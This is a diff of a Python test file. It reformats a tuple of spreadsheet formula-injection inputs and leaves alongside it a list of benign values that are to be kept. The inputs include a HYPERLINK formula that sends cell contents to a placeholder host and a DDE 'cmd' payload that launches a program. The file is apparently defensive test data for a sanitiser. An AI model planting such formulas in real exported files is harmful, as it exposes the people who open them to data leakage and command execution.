@@ -215,7 +215,15 @@ def test_a_unit_from_outside_of_the_header_joins_the_name() -> None:
     assert table.schema.names[0] == "资金（万元）"
 
 
-RUN = ('=HYPERLINK("http://example.org/?x="&A1,"点击")', "@SUM(1)", "+1+cmd|' /C calc'!A0", "-1+2", "－(1)", "＝1", "＠a")
+RUN = (
+    '=HYPERLINK("http://example.org/?x="&A1,"点击")',
+    "@SUM(1)",
+    "+1+cmd|' /C calc'!A0",
+    "-1+2",
+    "－(1)",
+    "＝1",
+    "＠a",
+)
 KEPT = ("-", "－", "-5", "+5.3%", "－１２", "-1,000.5", "5-3", "甲=乙", "'=1", "（-）", "-12 %")
 
 
